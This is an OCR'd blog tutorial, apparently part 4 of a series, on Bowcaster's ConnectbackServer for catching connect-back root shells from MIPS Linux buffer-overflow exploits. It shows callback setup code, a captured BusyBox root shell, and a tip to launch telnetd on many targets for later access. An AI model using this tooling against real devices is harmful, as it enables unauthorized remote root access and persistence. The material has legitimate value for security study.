Buffer Overflows with Bowcaster Part 4

Posted on

In part 1 of the Bowcaster tutorial I showed how to generate an overflow string with the OverflowBufferclass. In part 2, I showed how to populate your your overflow string with ROP gadgets. In part 3, I showed how to add Bowcaster’s connect-back payload for MIPS Linux to your overflow string. I also showed how to encode your payload using Bowcaster’s MIPS Linux-specific XOR encoder in order to sanitize restricted bytes.

Part 3 ended by using a netcat listener to serve a connect-back root shell.  In this part I’ll show how to use one of Bowcaster’s server modules to replace netcat.

Bowcaster provides a couple of server modules to receive connections from connect-back payloads.  The one we’re interested in for this tutorial is imaginatively called ConnectbackServer.

Import it into your exploit code like so:

from bowcaster.servers.connectback_server import ConnectbackServer

In part 3, we create a payload object by first creating a ConnectbackHost object and passing it to ConnectbackPayload().  Creating the server works the same way.  Using the same host for both payload and server ensure the payload connects back to the right IP address and port.

connectback_host=ConnectbackHost(CALLBACK_IP) #default port is 8080
connectback_server=ConnectbackServer(connectback_host,startcmd="/bin/sh -i")
#create string section frompayload.shellcode,
#and instantiate buffer overflow
#See part 3.

The ConnectBack server class provides some features that you don’t get with a simple netcat listener.  First, it gives you the ability to automatically execute a command on the target upon connection.  More on this in a bit.

More importantly, by forking into the background and operating asynchronously, ConnectbackServer gives you the ability to serve a connection right from your exploit script rather than having to fire up a listener in a separate session. For example:#Start server

#Throw exploit
print("sending exploit.")

#Wait for connect-back server to finish up.

Here it is in action:

zach@zolan:~/code/bowcaster/doc/examples (0) $ ./overflow_example_1.py 9999
 [@] bad char count: 4
 [@] No bad bytes in decoder stub.
 [@] length of encoded shellcode, including stub is: 304
 [@] Length of overflow: 1300
Listening on port 8080

Waiting for incoming connection.

sending exploit.
Target has phoned home.

BusyBox v1.7.2 (2011-09-14 10:39:57 CST) built-in shell (ash)
Enter 'help' for a list of built-in commands.

# cat /proc/version
cat /proc/version
Linux version 2.6.22 (peter@localhost.localdomain) (gcc version 4.2.3) #1 Wed Sep 14 10:38:51 CST 2011Like I mentioned above, the ConnectbackServer class takes an optional ‘startcmd‘ argument to its constructor.  This is useful in a few ways.  First, I like to use /bin/sh -i just becauseit looks nicer to have that familiar root ‘#’.  But you may want to issue a command to restart the exploited service, that way your target is automatically prepped for re-exploitation.

But, there’s another optional argument to ConnectbackServer that, when combined with startcmd, is pretty cool.  You can optionally specify connectback_shell=False.  If you do this, then ConnectbackServer will not provide an interactive shell.  Instead it will send the start command if you provided one, and then immediately close the connection.  Why is this useful?  Say you wanted to exploit a list of ten targets and have them automatically prepped for interactive login whenever you’re ready.  You could do:


By specifying startcmd=‘/bin/telnetd’ and connectback_shell=False, you could have the target await your login via telnet at your convenience.

Ihope this is useful.  Be sure to send me screenshots of some of your root prompts.